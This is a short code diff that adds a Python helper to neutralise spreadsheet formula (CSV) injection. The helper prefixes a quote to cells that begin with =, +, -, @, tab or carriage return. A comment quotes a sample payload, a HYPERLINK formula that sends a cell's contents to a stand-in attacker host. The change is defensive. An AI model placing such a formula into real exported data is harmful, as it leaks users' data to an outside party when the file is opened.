@@ -61,3 +61,13 @@ def quoted_tab(sheet_title: str) -> str:
 def row_range(row_number: int, sheet_title: str) -> str:
     """The A1 range of one row of the app's columns."""
     return f"{quoted_tab(sheet_title)}!A{row_number}:{LAST_COLUMN}{row_number}"
+
+
+# A cell a spreadsheet would read as a formula (OWASP "CSV injection"): a company named
+# =HYPERLINK("https://evil.example?"&A1) in an email would run when a CSV export is opened.
+_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def inert_in_a_spreadsheet(cell: str) -> str:
+    """The cell, with a leading ' when a spreadsheet would read it as a formula (shown as text)."""
+    return "'" + cell if cell.startswith(_FORMULA_STARTS) else cell
